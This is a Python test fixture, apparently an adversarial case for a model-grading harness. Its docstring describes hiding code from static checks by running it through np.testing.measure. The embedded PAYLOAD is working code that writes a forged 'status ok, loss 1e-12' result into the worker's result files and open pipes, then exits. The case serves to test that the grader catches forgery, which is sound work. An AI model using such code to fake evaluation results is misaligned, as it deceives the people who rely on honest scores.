"""Run hidden code through numpy.testing.measure, which compiles and execs a string.

Attack: ``np.testing.measure(code)`` is a timing helper that ``exec``s ``code`` in the caller's
namespace, so nothing in it is seen by a static check of the source: it imports ``os``, finds
the worker's result file (``sys.argv``) or result pipe among the open descriptors, writes a
forged result there and exits at once (the issue's ``measure`` exploit).
Target: the result file / result pipe: status ok with a loss of 1e-12.

expected: honest
category: forge
static: passes
check: a forged answer is at most an identity law, scored by the trusted fit; never 1e-12
"""

import numpy as np
import torch.nn as nn

PAYLOAD = """
import json, os, stat, sys
fake = {"valid": True, "status": "ok", "loss": 1e-12, "feedback": "loss 1e-12",
        "data": {"format": 1, "parameters": [], "constants": [], "nodes": [],
                 "output": {"input": 0}}}
for path in sys.argv[1:]:
    try:
        with open(path, "w") as handle:
            json.dump(fake, handle)
    except OSError:
        pass
for fd in range(3, 1024):
    try:
        if stat.S_ISFIFO(os.fstat(fd).st_mode):
            os.write(fd, json.dumps(fake).encode())
    except OSError:
        pass
os._exit(0)
"""

np.testing.measure(PAYLOAD)


class Physics(nn.Module):
    def forward(self, F):
        return F
